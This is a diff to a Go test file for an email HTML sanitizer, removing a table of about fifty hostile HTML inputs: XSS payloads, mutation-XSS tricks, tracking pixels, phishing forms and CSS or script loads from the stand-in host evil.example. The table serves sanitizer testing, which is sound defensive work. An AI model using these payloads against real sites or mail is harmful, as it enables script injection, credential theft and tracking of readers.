@@ -14,61 +14,6 @@ import (
 	"returndesk/desk"
 )
 
-// vectors are ways in which a mail's HTML may try to act, one of each kind that we know.
-func vectors() map[string]string {
-	return map[string]string{
-		"script":          `<script>alert(1)</script>`,
-		"script in case":  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
-		"broken script":   `<scr<script>ipt>alert(1)</scr</script>ipt>`,
-		"unclosed script": `<script>alert(1)`,
-		"handler":         `<p onclick="alert(1)">x</p>`,
-		"handler, slash":  `<p/onmouseover=alert(1)>x</p>`,
-		"image error":     `<img src=x onerror=alert(1)>`,
-		"tracking pixel":  `<img src="https://evil.example/p.gif" width=1 height=1>`,
-		"cid picture":     `<img src="cid:a@b">`,
-		"srcset":          `<img srcset="https://evil.example/p.gif 1x">`,
-		"picture":         `<picture><source srcset="https://evil.example/p.gif"></picture>`,
-		"svg":             `<svg onload=alert(1)><script>alert(1)</script></svg>`,
-		"svg use":         `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
-		"math":            `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>`,
-		"iframe":          `<iframe src="https://evil.example"></iframe>`,
-		"srcdoc":          `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-		"object":          `<object data="https://evil.example"></object><embed src="https://evil.example">`,
-		"form":            `<form action="https://evil.example"><input name=password><button formaction="//evil.example">go</button></form>`,
-		"javascript link": `<a href="javascript:alert(1)">x</a>`,
-		"coded link":      `<a href="jav&#x09;ascript:alert(1)">x</a>`,
-		"data link":       `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
-		"plain link":      `<a href="https://evil.example/phish">your bank</a>`,
-		"ping":            `<a href="#" ping="https://evil.example">x</a>`,
-		"style":           `<style>body{background:url(https://evil.example/a)}</style>`,
-		"import":          `<style>@import "https://evil.example/a.css";</style>`,
-		"style attribute": `<p style="background:url(https://evil.example/a);position:fixed;inset:0">x</p>`,
-		"background":      `<table background="https://evil.example/a"><tr><td background="//evil.example/b">x</td></tr></table>`,
-		"link":            `<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="//evil.example">`,
-		"base":            `<base href="https://evil.example/">`,
-		"refresh":         `<meta http-equiv=refresh content="0;url=https://evil.example">`,
-		"policy":          `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
-		"video":           `<video poster="https://evil.example/a"><source src="//evil.example/b"></video><audio src="//evil.example/c" autoplay></audio>`,
-		"template":        `<template><img src=x onerror=alert(1)></template>`,
-		"noscript":        `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
-		"textarea":        `<textarea></textarea><img src=x onerror=alert(1)>`,
-		"title":           `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
-		"comment":         `<!--><img src=x onerror=alert(1)>--><!--[if mso]><script>alert(1)</script><![endif]-->`,
-		"cdata":           `<![CDATA[><img src=x onerror=alert(1)>]]>`,
-		"frameset":        `<frameset onload=alert(1)><frame src="//evil.example"></frameset>`,
-		"htmx":            `<div hx-get="/logout" hx-trigger="load" data-hx-post="/logout"></div>`,
-		"id and name":     `<p id="said" name="queue" class="notice" data-key="e">x</p>`,
-		"details":         `<details ontoggle=alert(1) open>x</details>`,
-		"marquee":         `<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>`,
-		"null byte":       "<scr\x00ipt>alert(1)</scr\x00ipt><im\x00g src=x onerror=alert(1)>",
-		"entities":        `&lt;script&gt;alert(1)&lt;/script&gt;`,
-		"xml":             `<?xml-stylesheet href="https://evil.example/a.xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
-		"utf-7":           `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
-		"portal":          `<portal src="https://evil.example"></portal><applet code=x></applet><bgsound src="//evil.example/a">`,
-		"nested":          strings.Repeat("<div>", 3000) + `<img src=x onerror=alert(1)>`,
-	}
-}
-
 // TestHostileHTML: whatever stands in a mail, its HTML page holds a closed list of elements
 // and no attribute that acts or loads, under a policy that would stop it anyway.
 func TestHostileHTML(t *testing.T) {
